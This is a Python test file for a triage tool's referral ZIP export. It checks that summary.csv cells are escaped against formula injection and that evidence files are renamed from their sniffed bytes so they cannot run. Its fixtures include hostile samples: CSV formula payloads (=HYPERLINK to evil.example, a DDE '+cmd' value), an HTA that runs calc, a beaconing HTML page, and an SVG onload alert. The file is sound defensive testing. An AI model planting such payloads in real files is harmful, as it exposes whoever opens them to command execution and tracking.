"""Referral ZIPs are inert: no spreadsheet formula in summary.csv, no runnable or self-loading evidence file."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from pathlib import Path

import pytest
from triage_helpers import make_lead

from evidence.sniff import sniff
from evidence.store import EvidenceStore
from triage.referrals import Referral, build_package

HTA = (
    b'<html><head><HTA:APPLICATION ID="x"><script>new ActiveXObject("WScript.Shell").Run("calc")</script></head></html>'
)
PAGE = (b'<!doctype html><html><head><link rel="stylesheet" href="https://target.example/track.css">'
        b'<meta http-equiv="refresh" content="0;url=https://target.example/opened"></head>'
        b'<body><img src="https://target.example/pixel.gif"><script>fetch("https://target.example/x")</script>'
        + "<h1>耐克 高仿</h1></body></html>".encode())  # fmt: skip
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 16
FEED = b'id,title\n1,=HYPERLINK("http://evil/")\n'


def _referral(*lead_ids: str) -> Referral:
    return Referral(referral_id="ref-0001", created_at="2026-11-30T00:00:00Z", created_by="investigator",
                    title="test", lead_ids=lead_ids, status="approved", decided_by="supervisor")  # fmt: skip


def _archive(tmp_path: Path, leads, files: list[tuple[bytes, str, str]]) -> zipfile.ZipFile:
    evidence = EvidenceStore(tmp_path / "evidence")
    put = [evidence.put_bytes(data, role=role, media_type=media_type) for data, role, media_type in files]
    evidence.record(platform=leads[0].platform, listing_id=leads[0].listing_id, url=leads[0].url, profile="p",
                    files=put)  # fmt: skip
    package = build_package(_referral(*(lead.lead_id for lead in leads)), leads, evidence, {})
    return zipfile.ZipFile(io.BytesIO(package))


@pytest.mark.parametrize(
    ("title", "seller"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)"),
        ("+cmd|' /C calc'!A0", "-2+3"),
        ("\t=1+1", "\r=1+1"),
        ("  =1+1", " @A1"),
    ],
)
def test_summary_csv_cells_never_start_a_formula(tmp_path: Path, title: str, seller: str) -> None:
    lead = make_lead(1, title=title, seller=seller)
    archive = _archive(tmp_path, [lead], [(PNG, "screenshot", "image/png")])
    text = archive.read("ref-0001/summary.csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["title"] == "'" + title and rows[0]["seller"] == "'" + seller
    for row in rows:
        for value in row.values():
            assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_evidence_names_come_from_sniffed_bytes_not_the_servers_content_type(tmp_path: Path) -> None:
    lead = make_lead(2)
    files = [(HTA, "response", "application/hta"), (PAGE, "page", "text/html"), (PNG, "screenshot", "image/png"),
             (FEED, "other", "text/csv"), (b"MZ\x90\x00\x03\x00", "other2", "application/x-msdownload")]  # fmt: skip
    archive = _archive(tmp_path, [lead], files)
    names = [n for n in archive.namelist() if "/evidence/" in n]
    assert len(names) == 5
    suffixes = sorted(Path(n).name.split("-", 2)[-1].split(".", 1)[-1] for n in names)
    assert suffixes == ["bin", "html.txt", "html.txt", "png", "txt"]
    assert not any(n.endswith((".hta", ".html", ".htm", ".csv", ".exe", ".svg")) for n in names)
    # byte for byte: the hashes in the package match the evidence store's
    manifest = json.loads(archive.read("ref-0001/manifest.json"))
    stored = {hashlib.sha256(data).hexdigest() for data, _, _ in files}
    assert {f["sha256"] for f in manifest["files"] if "/" in f["name"] and f["name"].startswith("evidence/")} == stored


def test_an_archived_page_opened_in_a_browser_loads_nothing(tmp_path: Path) -> None:
    """Opened from the ZIP, an HTML page is text: file:// serves .txt as text/plain, so nothing runs or loads."""
    import mimetypes

    archive = _archive(tmp_path, [make_lead(3)], [(PAGE, "page", "text/html")])
    (name,) = [n for n in archive.namelist() if "/evidence/" in n]
    assert mimetypes.guess_type(name)[0] == "text/plain"
    assert archive.read(name) == PAGE


@pytest.mark.parametrize(
    ("data", "kind"),
    [(PNG, "png"), (b"\xff\xd8\xff\xe0jpeg", "jpeg"), (b"GIF89a..", "gif"), (b"RIFF\0\0\0\0WEBPVP8 ", "webp"),
     (b"\xef\xbb\xbf  <!DOCTYPE html>", "markup"), (b"<svg onload=alert(1)>", "markup"), (b'{"a": 1}', "json"),
     ("纯文本".encode(), "text"), (b"\x00\x01\x02", "binary"), (HTA, "markup")],
)  # fmt: skip
def test_sniffing(data: bytes, kind: str) -> None:
    assert sniff(data) == kind
